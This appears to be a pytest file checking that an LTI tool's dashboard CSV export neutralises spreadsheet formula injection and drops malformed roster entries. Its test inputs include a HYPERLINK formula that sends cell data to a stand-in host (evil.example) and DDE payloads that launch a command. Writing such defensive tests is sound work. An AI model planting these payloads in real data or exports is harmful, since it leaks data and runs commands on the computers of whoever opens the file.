"""The dashboard's CSV export: what the LMS sends as names and e-mails never becomes a formula."""

from __future__ import annotations

import csv
import io

import pytest

from lti_tool.lti.roles import Role
from lti_tool.teaching import dashboard as dash


def export(*members: tuple[str | None, str | None]) -> list[list[str]]:
    rows = [dash.Row(dash.Member(f"sub-{i}", name, email, Role.LEARNER, None), {})
            for i, (name, email) in enumerate(members)]
    board = dash.Dashboard(modules=(), rows=rows, chart=[], roster=None, pending_grading=0)
    raw = dash.to_csv(board, rows, delimiter=";")
    return list(csv.reader(io.StringIO(raw.removeprefix("\ufeff")), delimiter=";"))[1:]


@pytest.mark.parametrize("hostile", [
    '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
])
def test_cells_that_would_be_formulas_are_quoted_as_text(hostile):
    [(name, email, _role)] = export((hostile, hostile + "@demo.example"))
    assert name == "'" + hostile
    assert email == "'" + hostile + "@demo.example"


def test_ordinary_names_and_emails_are_unchanged():
    rows = export(("Anne-Marie Østergaard", "anne-marie@demo.example"), ("Jonas Madsen", None), (None, None))
    assert rows == [["Anne-Marie Østergaard", "anne-marie@demo.example", "Learner"],
                    ["Jonas Madsen", "", "Learner"],
                    ["sub-2", "", "Learner"]]


def test_roster_entries_a_page_or_postgresql_cannot_carry_are_left_out_or_blanked():
    """A NUL in a user_id broke the dashboard's query on PostgreSQL; a lone surrogate in a name
    broke the page's encoding: both were 500s."""
    from lti_tool.teaching.dashboard import _members_from_roster

    members = _members_from_roster([
        {"user_id": "m\x00", "name": "Nul"},
        {"user_id": "u-1", "name": "Aya \ud800", "email": "a\udfff@example.dk", "roles": []},
        {"user_id": "u-2", "given_name": "Omar", "family_name": "Ali", "roles": []},
    ])

    assert [(m.sub, m.name, m.email) for m in members] == [("u-1", None, None), ("u-2", "Omar Ali", None)]
